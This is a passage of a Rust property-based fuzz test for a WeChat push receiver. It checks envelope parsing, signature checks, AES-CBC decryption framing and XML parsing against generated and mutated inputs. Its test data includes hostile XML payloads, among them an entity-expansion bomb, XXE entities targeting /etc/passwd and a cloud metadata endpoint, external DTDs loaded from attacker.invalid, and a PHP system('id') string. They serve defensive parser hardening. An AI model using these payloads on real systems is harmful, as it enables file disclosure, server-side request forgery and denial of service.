//! Property tests of the push path, as the ticket receiver runs it: the envelope
//! (`Envelope::parse`), the signature (`MessageCrypto::verify_signature`), decryption
//! (`MessageCrypto::decrypt`) and the inner XML (`ComponentPush::parse`, `xml::parse`).
//!
//! Over a million generated inputs, none may panic, and each is either accepted as exactly what
//! was generated or refused with the typed error its construction calls for:
//! - valid pushes with random fields, random XML spellings (CDATA, entities, character
//!   references, comments, layout, field order, unknown and nested fields) must round-trip;
//! - valid pushes with one mutation (envelope, base64, ciphertext, framing, inner XML) must be
//!   refused with the exact error, or, where a mutation leaves the push intact, accepted;
//! - arbitrary text and bytes must give every parser a typed answer, consistent across layers,
//!   and decryption must agree with an independent model of WeChat's framing.
//!
//! Each test prints how many inputs it tried. `FUZZ_SEED=<64 hex digits>` replays a run; the
//! seed is printed with the counts. `FUZZ_SCALE=10` runs ten times as many.

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::io::Write;
use std::sync::LazyLock;

use aes::Aes256;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use cbc::cipher::block_padding::NoPadding;
use cbc::cipher::{BlockModeDecrypt, BlockModeEncrypt, KeyIvInit};
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
use wxopen::MessageCrypto;
use wxopen::crypto::CryptoError;
use wxopen::push::{AuthorizationGrant, ComponentInfo, ComponentPush, Envelope, PushError};
use wxopen::xml::{self, XmlError};

const TOKEN: &str = "pamtest";
const ENCODING_AES_KEY: &str = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG";
const APPID: &str = "wxb11529c136998cb6";

static CRYPTO: LazyLock<MessageCrypto> =
    LazyLock::new(|| MessageCrypto::new(TOKEN, ENCODING_AES_KEY, APPID).unwrap());

/// The AES key, decoded here on its own (the key's last character has non-zero trailing bits).
static AES_KEY: LazyLock<[u8; 32]> = LazyLock::new(|| {
    let engine = base64::engine::GeneralPurpose::new(
        &base64::alphabet::STANDARD,
        base64::engine::GeneralPurposeConfig::new().with_decode_allow_trailing_bits(true),
    );
    engine
        .decode(format!("{ENCODING_AES_KEY}="))
        .unwrap()
        .try_into()
        .unwrap()
});

const KNOWN_INFO_TYPES: [&str; 4] = [
    "component_verify_ticket",
    "authorized",
    "updateauthorized",
    "unauthorized",
];

// ---------------------------------------------------------------------------------------------
// Running and counting

/// Why the push path refused an input.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Refused {
    Push(PushError),
    Crypto(CryptoError),
}

type Outcome = Result<(Envelope, ComponentPush), Refused>;

/// A push as it reaches the receiver: the signed query parameters and the body.
#[derive(Debug, Clone)]
struct Delivery {
    msg_signature: String,
    timestamp: String,
    nonce: String,
    body: String,
}

/// The receiver's order: envelope, signature, decryption, inner XML.
fn open(delivery: &Delivery) -> Outcome {
    let envelope = Envelope::parse(&delivery.body).map_err(Refused::Push)?;
    CRYPTO
        .verify_signature(
            &delivery.msg_signature,
            &delivery.timestamp,
            &delivery.nonce,
            &envelope.encrypt,
        )
        .map_err(Refused::Crypto)?;
    let xml = CRYPTO.decrypt(&envelope.encrypt).map_err(Refused::Crypto)?;
    let push = ComponentPush::parse(&xml).map_err(Refused::Push)?;
    Ok((envelope, push))
}

fn outcome_label(outcome: &Outcome) -> String {
    match outcome {
        Ok(_) => "accepted".into(),
        Err(Refused::Crypto(e)) => format!("{e:?}"),
        Err(Refused::Push(PushError::Xml(XmlError::Malformed(_)))) => "Xml(Malformed)".into(),
        Err(Refused::Push(PushError::Xml(e))) => format!("Xml({e:?})"),
        Err(Refused::Push(PushError::MissingField(_))) => "MissingField".into(),
        Err(Refused::Push(PushError::BadTime { .. })) => "BadTime".into(),
        Err(Refused::Push(PushError::NotANumber { .. })) => "NotANumber".into(),
    }
}

/// How many times the default number of cases to run (`FUZZ_SCALE`, default 1).
fn scale() -> f64 {
    std::env::var("FUZZ_SCALE")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(1.0)
}

fn seed() -> [u8; 32] {
    if let Ok(hex_seed) = std::env::var("FUZZ_SEED") {
        return hex::decode(hex_seed.trim())
            .ok()
            .and_then(|b| b.try_into().ok())
            .expect("FUZZ_SEED is 64 hex digits");
    }
    let mut seed = [0u8; 32];
    getrandom::fill(&mut seed).unwrap();
    seed
}

/// Runs `check` on `cases` generated values, counts every call (shrinking included) and the
/// labels it returns, and prints the tally where the test log shows it.
fn fuzz<S: Strategy>(name: &str, cases: u32, strategy: S, check: impl Fn(S::Value) -> String)
where
    S::Value: std::fmt::Debug,
{
    let seed = seed();
    let config = Config {
        cases: (f64::from(cases) * scale()).ceil() as u32,
        failure_persistence: None,
        max_shrink_iters: 1024,
        max_shrink_time: 60_000,
        ..Config::default()
    };
    let mut runner = TestRunner::new_with_rng(
        config,
        TestRng::from_seed(RngAlgorithm::XorShift, &seed[..16]),
    );
    let tally: RefCell<BTreeMap<String, u64>> = RefCell::default();
    let result = runner.run(&strategy, |value| {
        let label = check(value);
        *tally.borrow_mut().entry(label).or_default() += 1;
        Ok(())
    });
    let tally = tally.into_inner();
    let tried: u64 = tally.values().sum();
    let labels: Vec<String> = tally.iter().map(|(k, v)| format!("{k} {v}")).collect();
    // Straight to stderr: the test harness captures print macros, and the count belongs in the
    // log of every run.
    let _ = writeln!(
        std::io::stderr(),
        "push_fuzz {name}: {tried} inputs tried, no panic (seed {}): {}",
        hex::encode(seed),
        labels.join(", ")
    );
    if let Err(failure) = result {
        panic!("{name}: {failure} (FUZZ_SEED={})", hex::encode(seed));
    }
}

// ---------------------------------------------------------------------------------------------
// An independent model of WeChat's framing, over the AES crate itself

fn aes_encrypt_raw(plain: &[u8]) -> String {
    assert_eq!(plain.len() % 16, 0);
    let key = *AES_KEY;
    let iv: [u8; 16] = key[..16].try_into().unwrap();
    let mut buf = plain.to_vec();
    let len = buf.len();
    cbc::Encryptor::<Aes256>::new(&key.into(), &iv.into())
        .encrypt_padded::<NoPadding>(&mut buf, len)
        .unwrap();
    STANDARD.encode(buf)
}

fn aes_decrypt_raw(cipher: &[u8]) -> Vec<u8> {
    let key = *AES_KEY;
    let iv: [u8; 16] = key[..16].try_into().unwrap();
    let mut buf = cipher.to_vec();
    cbc::Decryptor::<Aes256>::new(&key.into(), &iv.into())
        .decrypt_padded::<NoPadding>(&mut buf)
        .unwrap();
    buf
}

/// What decryption must answer: base64, whole blocks, a pad of 1..=32 equal bytes, 16 random
/// bytes, a big-endian length, that many bytes of UTF-8, then exactly our appid.
fn model_decrypt(encrypt: &str) -> Result<String, CryptoError> {
    let raw = STANDARD
        .decode(encrypt)
        .map_err(|_| CryptoError::DecodeBase64)?;
    if raw.is_empty() || raw.len() % 16 != 0 {
        return Err(CryptoError::DecryptAes);
    }
    let plain = aes_decrypt_raw(&raw);
    let pad = plain[plain.len() - 1];
    let valid_pad =
        (1..=32).contains(&pad) && plain.iter().rev().take(pad.into()).all(|&b| b == pad);
    if !valid_pad || usize::from(pad) > plain.len() {
        return Err(CryptoError::IllegalBuffer);
    }
    let content = &plain[..plain.len() - usize::from(pad)];
    let Some(length) = content.get(16..20) else {
        return Err(CryptoError::IllegalBuffer);
    };
    let length = u64::from(u32::from_be_bytes(length.try_into().unwrap()));
    let end = 20 + length;
    if end > content.len() as u64 {
        return Err(CryptoError::IllegalBuffer);
    }
    let (message, appid) = content[20..].split_at(length as usize);
    if appid != APPID.as_bytes() {
        return Err(CryptoError::ValidateAppid);
    }
    String::from_utf8(message.to_vec()).map_err(|_| CryptoError::IllegalBuffer)
}

/// How the plaintext's tail is padded when a push is framed by hand.
#[derive(Debug, Clone, Copy)]
enum Pad {
    /// WeChat's: to a multiple of 32.
    Wechat,
    /// PKCS#7 to 16 bytes: still 1..=32 equal bytes, so accepted like WeChat's samples do.
    Pkcs7Block16,
    /// The last byte 0.
    Zero,
    /// A consistent pad, every byte its length, but longer than 32 (rounded to whole blocks).
    Over(u8),
    /// WeChat's length, but the first pad byte differs from the rest.
    Uneven,
}

/// `16 random bytes ‖ length ‖ message ‖ appid ‖ pad`, encrypted and encoded.
fn frame(random: &[u8; 16], length: u32, message: &[u8], appid: &[u8], pad: Pad) -> String {
    let mut plain = Vec::new();
    plain.extend_from_slice(random);
    plain.extend_from_slice(&length.to_be_bytes());
    plain.extend_from_slice(message);
    plain.extend_from_slice(appid);
    let wechat = 32 - plain.len() % 32;
    match pad {
        Pad::Wechat => plain.resize(plain.len() + wechat, wechat as u8),
        Pad::Pkcs7Block16 => {
            let p = 16 - plain.len() % 16;
            plain.resize(plain.len() + p, p as u8);
        }
        Pad::Over(v) => {
            let mut count = usize::from(v);
            while !(plain.len() + count).is_multiple_of(16) {
                count += 1;
            }
            if count > 255 {
                count -= 16;
            }
            plain.resize(plain.len() + count, count as u8);
        }
        Pad::Zero | Pad::Uneven => {
            let start = plain.len();
            plain.resize(start + wechat, wechat as u8);
            let last = plain.len() - 1;
            if let Pad::Zero = pad {
                plain[last] = 0;
            } else {
                plain[start] ^= 0x40;
            }
        }
    }
    aes_encrypt_raw(&plain)
}

// ---------------------------------------------------------------------------------------------
// Generated pushes

/// A small deterministic mixer for rendering choices, driven by one generated number.
struct Mix(u64);

impl Mix {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn one_in(&mut self, n: u64) -> bool {
        self.next().is_multiple_of(n)
    }
}

/// A Unix time and how it is spelled (`+`, leading zeros and surrounding spaces parse).
#[derive(Debug, Clone)]
struct Time {
    value: i64,
    text: String,
}

fn time() -> impl Strategy<Value = Time> {
    (
        prop_oneof![
            1i64..=2_000_000_000,
            1i64..=i64::MAX,
            Just(i64::MAX),
            Just(1)
        ],
        0u8..6,
    )
        .prop_map(|(value, spelling)| {
            let text = match spelling {
                0 => format!("+{value}"),
                1 => format!("000{value}"),
                2 => format!(" {value}\n"),
                _ => value.to_string(),
            };
            Time { value, text }
        })
}

/// Characters for field values: mostly letters, XML's special characters, whitespace that XML
/// or `str::trim` treat specially, CJK, and now and then any character XML 1.0 allows.
fn text_char(mix: &mut Mix) -> char {
    const SPECIAL: [char; 25] = [
        '<', '>', '&', '"', '\'', ']', '[', ' ', '\t', '\n', '\r', '!', '?', '/', '=', ';', '#',
        '-', '@', '%', '\u{85}', '\u{a0}', '\u{2028}', '\u{3000}', '\u{feff}',
    ];
    let roll = mix.below(16);
    let pick = |mix: &mut Mix, from: u32, to: u32| {
        char::from_u32(from + (mix.next() % u64::from(to - from + 1)) as u32).unwrap()
    };
    match roll {
        0..=7 => pick(mix, 'a'.into(), 'z'.into()),
        8..=9 => pick(mix, '0'.into(), '9'.into()),
        10..=12 => SPECIAL[mix.below(SPECIAL.len())],
        13..=14 => pick(mix, 0x4e00, 0x9fff),
        _ => std::iter::repeat_with(|| char::from_u32((mix.next() % 0x11_0000) as u32))
            .flatten()
            .find(|c| *c >= ' ' && !matches!(*c, '\u{fffe}' | '\u{ffff}'))
            .unwrap(),
    }
}

/// What users write about XML: markup declarations and instructions as words. Spelled as
/// character data (escaped or in CDATA) they are text like any other and must come out intact.
const MARKUP_WORDS: [&str; 7] = [
    "see <!DOCTYPE html> in my text",
    "<!doctype xml [<!ENTITY lol \"&lol;&lol;\">]>",
    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
    "<?php system('id'); ?>",
    "<?xml version=\"1.0\"?>",
    "<!DocType x PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"x.dtd\">",
    "&xxe; %p; <!-- -->",
];

/// Up to `max` characters, and one time in eight one of [`MARKUP_WORDS`] among them. Drawn
/// from a seed rather than one strategy per character: far cheaper to generate, and a failure
/// still shrinks to a shorter prefix.
fn text(max: usize) -> impl Strategy<Value = String> {
    (0..max, any::<u64>()).prop_map(|(len, seed)| {
        let mut mix = Mix(seed);
        let mut text: String = (0..len).map(|_| text_char(&mut mix)).collect();
        if mix.one_in(8) {
            let word = MARKUP_WORDS[mix.below(MARKUP_WORDS.len())];
            let at = text
                .char_indices()
                .map(|(i, _)| i)
                .nth(mix.below(len + 1))
                .unwrap_or(text.len());
            text.insert_str(at, word);
        }
        text
    })
}

fn has_markup_words(leaves: &[(Vec<String>, String)]) -> bool {
    leaves
        .iter()
        .any(|(_, value)| MARKUP_WORDS.iter().any(|w| value.contains(w)))
}

/// Text with something left after trimming (required fields are read trimmed).
fn word(max: usize) -> impl Strategy<Value = String> {
    text(max).prop_map(|s| {
        if s.trim().is_empty() {
            format!("{s}v")
        } else {
            s
        }
    })
}

fn element_name() -> impl Strategy<Value = String> {
    const REST: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_-.09名";
    (0usize..8, any::<u64>()).prop_map(|(len, seed)| {
        let mut mix = Mix(seed);
        let rest: Vec<char> = REST.chars().collect();
        // Lower case first: never one of WeChat's field names, which all start upper case.
        let first = rest[mix.below(26)];
        std::iter::once(first)
            .chain((0..len).map(|_| rest[mix.below(rest.len())]))
            .collect()
    })
}

#[derive(Debug, Clone)]
struct Grant {
    authorizer_appid: String,
    code: String,
    expired: Time,
    pre_auth_code: Option<String>,
}

#[derive(Debug, Clone)]
enum Kind {
    Ticket(String),
    Authorized(Grant),
    UpdateAuthorized(Grant),
    Unauthorized(String),
    Other(String),
}

/// A push to generate: its fields, and the choices that spell it.
#[derive(Debug, Clone)]
struct PushSpec {
    app_id: String,
    create_time: Time,
    /// The InfoType's spelling may pad the known names with whitespace.
    info_type_padding: (String, String),
    kind: Kind,
    /// Fields WeChat may add: a path below the root (nested elements) and a value.
    extras: Vec<(Vec<String>, String)>,
    render: u64,
    random: [u8; 16],
    timestamp: String,
    nonce: String,
    to_user_name: Option<String>,
}

fn grant() -> impl Strategy<Value = Grant> {
    (
        word(24),
        word(40),
        time(),
        prop_oneof![Just(None), text(30).prop_map(Some)],
    )
        .prop_map(|(authorizer_appid, code, expired, pre_auth_code)| Grant {
            authorizer_appid,
            code,
            expired,
            pre_auth_code,
        })
}

fn kind() -> impl Strategy<Value = Kind> {
    prop_oneof![
        3 => word(60).prop_map(Kind::Ticket),
        2 => grant().prop_map(Kind::Authorized),
        1 => grant().prop_map(Kind::UpdateAuthorized),
        1 => word(24).prop_map(Kind::Unauthorized),
        2 => word(30)
            .prop_filter("an InfoType the service does not act on", |t| {
                !KNOWN_INFO_TYPES.contains(&t.trim())
            })
            .prop_map(Kind::Other),
    ]
}

fn extras(max: usize, max_depth: usize) -> impl Strategy<Value = Vec<(Vec<String>, String)>> {
    proptest::collection::vec(
        (
            proptest::collection::vec(element_name(), 1..=max_depth),
            text(16),
        ),
        0..=max,
    )
}

fn push_spec_with(
    extras: impl Strategy<Value = Vec<(Vec<String>, String)>>,
) -> impl Strategy<Value = PushSpec> {
    let padding = prop_oneof![
        3 => Just((String::new(), String::new())),
        1 => (select(vec!["", " ", "\n", "\t "]), select(vec!["", " ", "\n\t"]))
            .prop_map(|(a, b)| (a.to_owned(), b.to_owned())),
    ];
    (
        (word(24), time(), padding, kind()),
        extras,
        (any::<u64>(), any::<[u8; 16]>()),
        (
            any::<u32>().prop_map(|t| t.to_string()),
            prop_oneof![any::<u64>().prop_map(|n| n.to_string()), text(12)],
            prop_oneof![3 => Just(None), 1 => word(20).prop_map(Some)],
        ),
    )
        .prop_map(
            |(
                (app_id, create_time, info_type_padding, kind),
                extras,
                (render, random),
                (timestamp, nonce, to_user_name),
            )| PushSpec {
                app_id,
                create_time,
                info_type_padding,
                kind,
                extras,
                render,
                random,
                timestamp,
                nonce,
                to_user_name,
            },
        )
}

fn push_spec() -> impl Strategy<Value = PushSpec> {
    push_spec_with(extras(6, 4))
}

impl PushSpec {
    fn info_type(&self) -> String {
        let name = match &self.kind {
            Kind::Ticket(_) => KNOWN_INFO_TYPES[0],
            Kind::Authorized(_) => KNOWN_INFO_TYPES[1],
            Kind::UpdateAuthorized(_) => KNOWN_INFO_TYPES[2],
            Kind::Unauthorized(_) => KNOWN_INFO_TYPES[3],
            Kind::Other(name) => return name.clone(),
        };
        let (before, after) = &self.info_type_padding;
        format!("{before}{name}{after}")
    }

    /// Every leaf, in document order before shuffling: a path below the root and its text.
    fn leaves(&self) -> Vec<(Vec<String>, String)> {
        let leaf = |name: &str, value: &str| (vec![name.to_owned()], value.to_owned());
        let mut leaves = vec![
            leaf("AppId", &self.app_id),
            leaf("CreateTime", &self.create_time.text),
            leaf("InfoType", &self.info_type()),
        ];
        match &self.kind {
            Kind::Ticket(ticket) => leaves.push(leaf("ComponentVerifyTicket", ticket)),
            Kind::Authorized(g) | Kind::UpdateAuthorized(g) => {
                leaves.push(leaf("AuthorizerAppid", &g.authorizer_appid));
                leaves.push(leaf("AuthorizationCode", &g.code));
                leaves.push(leaf("AuthorizationCodeExpiredTime", &g.expired.text));
                if let Some(pre) = &g.pre_auth_code {
                    leaves.push(leaf("PreAuthCode", pre));
                }
            }
            Kind::Unauthorized(appid) => leaves.push(leaf("AuthorizerAppid", appid)),
            Kind::Other(_) => {}
        }
        leaves.extend(self.extras.iter().cloned());
        let mut mix = Mix(self.render);
        for i in (1..leaves.len()).rev() {
            leaves.swap(i, mix.below(i + 1));
        }
        leaves
    }

    /// What `ComponentPush::parse` must give for these leaves (in document order).
    fn expected(&self, leaves: &[(Vec<String>, String)]) -> Result<ComponentPush, PushError> {
        let too_deep = leaves.iter().any(|(path, _)| path.len() >= 8);
        if too_deep || leaves.len() > 256 {
            return Err(PushError::Xml(XmlError::TooLarge));
        }
        let grant = |g: &Grant| AuthorizationGrant {
            authorizer_appid: g.authorizer_appid.trim().to_owned(),
            authorization_code: g.code.trim().to_owned(),
            authorization_code_expired_time: g.expired.value,
            pre_auth_code: g.pre_auth_code.clone().filter(|c| !c.is_empty()),
        };
        let info = match &self.kind {
            Kind::Ticket(ticket) => ComponentInfo::VerifyTicket {
                ticket: ticket.trim().to_owned(),
            },
            Kind::Authorized(g) => ComponentInfo::Authorized(grant(g)),
            Kind::UpdateAuthorized(g) => ComponentInfo::UpdateAuthorized(grant(g)),
            Kind::Unauthorized(appid) => ComponentInfo::Unauthorized {
                authorizer_appid: appid.trim().to_owned(),
            },
            Kind::Other(info_type) => ComponentInfo::Other {
                info_type: info_type.trim().to_owned(),
                fields: Default::default(),
            },
        };
        Ok(ComponentPush {
            app_id: self.app_id.trim().to_owned(),
            create_time: self.create_time.value,
            info,
        })
    }
}

/// Spells `value` as XML character data: escaped, in CDATA sections, or mixed, with
/// character references now and then. `\r` is always a reference: XML turns a raw one into `\n`.
fn spell(value: &str, mix: &mut Mix) -> String {
    let mut out = String::new();
    let cdata = mix.below(3);
    let mut in_cdata = false;
    let mut previous = '\0';
    let chars: Vec<char> = value.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        let want_cdata = match cdata {
            0 => false,
            1 => c != '\r',
            _ => c != '\r' && mix.one_in(2),
        };
        if want_cdata && !in_cdata {
            out.push_str("<![CDATA[");
            in_cdata = true;
        } else if !want_cdata && in_cdata {
            out.push_str("]]>");
            in_cdata = false;
        }
        if in_cdata {
            out.push(c);
            // Never let the data close the section: split "]]>" across two sections.
            if c == ']' && chars.get(i + 1) == Some(&']') && chars.get(i + 2) == Some(&'>') {
                out.push_str("]]><![CDATA[");
            }
        } else {
            match c {
                '<' => out.push_str("&lt;"),
                '&' => out.push_str("&amp;"),
                '>' if previous == ']' || mix.one_in(2) => out.push_str("&gt;"),
                '"' if mix.one_in(2) => out.push_str("&quot;"),
                '\'' if mix.one_in(2) => out.push_str("&apos;"),
                '\r' => out.push_str("&#13;"),
                _ if mix.one_in(12) => out.push_str(&format!("&#{};", u32::from(c))),
                _ if mix.one_in(12) => out.push_str(&format!("&#x{:X};", u32::from(c))),
                _ => out.push(c),
            }
        }
        previous = if in_cdata { '\0' } else { c };
    }
    if in_cdata {
        out.push_str("]]>");
    }
    out
}

fn layout(mix: &mut Mix) -> &'static str {
    [
        "",
        "",
        "\n",
        "\n  ",
        "\t",
        " ",
        "<!-- a comment -->",
        "\n<!---->\n",
    ][mix.below(8)]
}

/// Raw XML to slip into a rendered push, and where.
#[derive(Debug, Clone, Default)]
struct Inject {
    /// Right after the declaration, before the root.
    prolog: String,
    /// Right after the opening tag of leaf `.0` (document order), inside its text.
    in_leaf: Option<(usize, String)>,
    /// Before leaf `.0`, between elements.
    between: Option<(usize, String)>,
    /// After the root.
    epilog: String,
    /// `.1` attributes on the root (`.0 == 0`) or on the opening tag of leaf `.0 - 1`.
    attributes: Option<(usize, usize)>,
    /// Leaf `.0`'s closing tag names another element.
    bad_close: Option<usize>,
}

/// The document for these leaves, spelled by `mix`, with `inject` slipped in.
fn render(leaves: &[(Vec<String>, String)], mix: &mut Mix, inject: &Inject) -> String {
    let attributes = |n: usize| -> String { (0..n).map(|i| format!(" a{i}=\"{i}\"")).collect() };
    let mut doc = String::new();
    if mix.one_in(3) {
        doc.push_str("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
    }
    doc.push_str(&inject.prolog);
    doc.push_str("<xml");
    if let Some((0, n)) = inject.attributes {
        doc.push_str(&attributes(n));
    }
    doc.push('>');
    for (i, (path, value)) in leaves.iter().enumerate() {
        doc.push_str(layout(mix));
        if let Some((at, raw)) = &inject.between
            && *at == i
        {
            doc.push_str(raw);
        }
        let (leaf, containers) = path.split_last().unwrap();
        for container in containers {
            doc.push_str(&format!("<{container}>"));
            // Text beside child elements is layout, whatever it says.
            if mix.one_in(4) {
                let noise: String = spell("noise & <layout>", mix);
                doc.push_str(&noise);
            }
        }
        doc.push('<');
        doc.push_str(leaf);
        if let Some((at, n)) = inject.attributes
            && at == i + 1
        {
            doc.push_str(&attributes(n));
        }
        let targeted =
            inject.in_leaf.as_ref().is_some_and(|l| l.0 == i) || inject.bad_close == Some(i);
        if value.is_empty() && mix.one_in(2) && !targeted {
            doc.push_str("/>");
        } else {
            doc.push('>');
            if let Some((at, raw)) = &inject.in_leaf
                && *at == i
            {
                doc.push_str(raw);
            }
            doc.push_str(&spell(value, mix));
            if mix.one_in(10) {
                doc.push_str("<!-- inside -->");
            }
            let close = if inject.bad_close == Some(i) {
                format!("{leaf}X")
            } else {
                leaf.clone()
            };
            doc.push_str(&format!("</{close}>"));
        }
        for container in containers.iter().rev() {
            doc.push_str(&format!("</{container}>"));
        }
    }
    if let Some((at, raw)) = &inject.between
        && *at >= leaves.len()
    {
        doc.push_str(raw);
    }
    doc.push_str(layout(mix));
    doc.push_str("</xml>");
    doc.push_str(&inject.epilog);
    if mix.one_in(4) {
        doc.push_str(layout(mix));
    }
    doc
}

fn leaf_paths(leaves: &[(Vec<String>, String)]) -> Vec<(String, String)> {
    leaves
        .iter()
        .map(|(path, value)| (path.join("/"), value.clone()))
        .collect()
}

/// Seals `xml` as WeChat does and puts it in a signed envelope.
fn deliver(spec: &PushSpec, encrypt: &str, mix: &mut Mix) -> Delivery {
    let appid = spell(APPID, mix);
    let encrypt_text = if mix.one_in(2) {
        format!("<![CDATA[{encrypt}]]>")
    } else {
        encrypt.to_owned()
    };
    let to_user = spec
        .to_user_name
        .as_ref()
        .map(|name| format!("<ToUserName>{}</ToUserName>", spell(name, mix)))
        .unwrap_or_default();
    let body = if mix.one_in(2) {
        format!("<xml>{to_user}<AppId>{appid}</AppId><Encrypt>{encrypt_text}</Encrypt></xml>")
    } else {
        format!(
            "<xml>\n  <Encrypt>{encrypt_text}</Encrypt>\n  {to_user}<AppId>{appid}</AppId>\n</xml>\n"
        )
    };
    Delivery {
        msg_signature: CRYPTO.signature(&spec.timestamp, &spec.nonce, encrypt),
        timestamp: spec.timestamp.clone(),
        nonce: spec.nonce.clone(),
        body,
    }
}

/// Checks an outcome against the generated push (Other's fields included) and envelope.
fn assert_accepted(
    outcome: &Outcome,
    spec: &PushSpec,
    leaves: &[(Vec<String>, String)],
    encrypt: &str,
) {
    match (outcome, spec.expected(leaves)) {
        (Ok((envelope, push)), Ok(_)) => {
            assert_eq!(envelope.encrypt, encrypt);
            assert_eq!(envelope.app_id.as_deref(), Some(APPID));
            assert_eq!(envelope.to_user_name, spec.to_user_name);
            assert_push(push, spec, leaves);
        }
        (outcome, Err(expected)) => {
            assert_eq!(outcome.as_ref().err(), Some(&Refused::Push(expected)))
        }
        (Err(refused), Ok(_)) => panic!("refused a valid push: {refused:?}"),
    }
}

fn assert_push(push: &ComponentPush, spec: &PushSpec, leaves: &[(Vec<String>, String)]) {
    let expected = spec.expected(leaves).expect("a valid push");
    match (&push.info, &expected.info) {
        (
            ComponentInfo::Other { info_type, fields },
            ComponentInfo::Other {
                info_type: expected_type,
                ..
            },
        ) => {
            assert_eq!(info_type, expected_type);
            assert_eq!(fields.clone().into_vec(), leaf_paths(leaves));
            assert_eq!(
                (&push.app_id, push.create_time),
                (&expected.app_id, expected.create_time)
            );
        }
        _ => assert_eq!(push, &expected),
    }
}

// ---------------------------------------------------------------------------------------------
// 1. Valid pushes round-trip

#[test]
fn valid_pushes_round_trip_exactly() {
    // Up to 300 leaves and 9 levels: the bounds (256 fields, 8 levels) are crossed both ways.
    let specs = prop_oneof![
        40 => push_spec(),
        1 => push_spec_with(extras(300, 2)),
        4 => push_spec_with(extras(3, 9)),
    ];
    fuzz("valid pushes round-trip", 100_000, specs, |spec| {
        let leaves = spec.leaves();
        let mut mix = Mix(spec.render ^ 0x5eed);
        let xml = render(&leaves, &mut mix, &Inject::default());
        let encrypt = CRYPTO.encrypt_with_random(&spec.random, &xml);
        let delivery = deliver(&spec, &encrypt, &mut mix);
        let outcome = open(&delivery);
        assert_accepted(&outcome, &spec, &leaves, &encrypt);
        let words = if has_markup_words(&leaves) {
            " (markup words in the text)"
        } else {
            ""
        };
        format!("{}{words}", outcome_label(&outcome))
    });
}

// ---------------------------------------------------------------------------------------------
// 2. Mutated pushes are refused exactly

/// One change to a valid push.
#[derive(Debug, Clone)]
enum Mutation {
    /// A bit of the body flipped, the signature left as it was.
    EnvelopeBit {
        at: usize,
        bit: u8,
    },
    /// A character that base64 does not have, slipped into Encrypt (re-signed).
    Base64Junk {
        at: usize,
        junk: char,
    },
    /// Encrypt's `=` padding taken off, or one `=` too many (re-signed).
    Base64Padding {
        remove: bool,
    },
    /// The ciphertext cut or grown to a length that is not whole AES blocks (re-signed).
    PartialBlock {
        cut: bool,
        bytes: usize,
    },
    /// Ciphertext changes whose outcome only the model can tell (re-signed).
    CipherBit {
        at: usize,
        bit: u8,
    },
    CipherTruncate {
        blocks: usize,
    },
    CipherAppend {
        block: [u8; 16],
    },
    CipherSwap {
        a: usize,
        b: usize,
    },
    /// Hand-made framing (re-signed).
    Padding(Pad),
    LengthOver {
        extra: u32,
    },
    LengthUnder {
        less: usize,
    },
    WrongAppid {
        how: u8,
        at: usize,
    },
    MessageCut {
        cut: usize,
    },
    NotUtf8 {
        at: usize,
    },
    TooShort {
        len: usize,
    },
    /// Inner XML changes (framed properly, re-signed).
    DropField {
        which: usize,
    },
    BlankField {
        which: usize,
        blank: &'static str,
    },
    BadTime {
        which: usize,
        text: String,
    },
    Doctype {
        payload: usize,
        place: usize,
    },
    UnknownEntity {
        name: String,
        leaf: usize,
    },
    BadCharRef {
        text: &'static str,
        leaf: usize,
    },
    ProcessingInstruction {
        place: usize,
        at: usize,
    },
    Attributes {
        element: usize,
        count: usize,
    },
    Truncate {
        at: usize,
    },
    BadClose {
        leaf: usize,
    },
    SecondRoot,
    Comment {
        at: usize,
    },
}

const HOSTILE_DOCTYPES: [&str; 8] = [
    "<!DOCTYPE xml [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>",
    "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
    "<!DOCTYPE xml [<!ENTITY xxe PUBLIC \"-//X//EN\" \"http://169.254.169.254/latest/meta-data/\">]>",
    "<!DOCTYPE xml [<!ENTITY % p SYSTEM \"http://attacker.invalid/p.dtd\"> %p;]>",
    "<!DOCTYPE xml SYSTEM \"http://attacker.invalid/x.dtd\">",
    "<!doctype xml>",
    "<!ENTITY stray \"no doctype around it\">",
    "<!DocType xml PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"x.dtd\">",
];

fn mutation() -> impl Strategy<Value = Mutation> {
    let index = || 0usize..10_000;
    prop_oneof![
        (index(), 0u8..7).prop_map(|(at, bit)| Mutation::EnvelopeBit { at, bit }),
        (
            index(),
            select(vec![
                '-', '_', '.', '*', '!', ' ', '\n', '\t', '~', '%', '$', '中'
            ])
        )
            .prop_map(|(at, junk)| Mutation::Base64Junk { at, junk }),
        any::<bool>().prop_map(|remove| Mutation::Base64Padding { remove }),
        (any::<bool>(), 1usize..16).prop_map(|(cut, bytes)| Mutation::PartialBlock { cut, bytes }),
        (index(), 0u8..8).prop_map(|(at, bit)| Mutation::CipherBit { at, bit }),
        (1usize..8).prop_map(|blocks| Mutation::CipherTruncate { blocks }),
        any::<[u8; 16]>().prop_map(|block| Mutation::CipherAppend { block }),
        (index(), index()).prop_map(|(a, b)| Mutation::CipherSwap { a, b }),
        prop_oneof![
            Just(Pad::Pkcs7Block16),
            Just(Pad::Zero),
            (33u8..=255).prop_map(Pad::Over),
            Just(Pad::Uneven),
        ]
        .prop_map(Mutation::Padding),
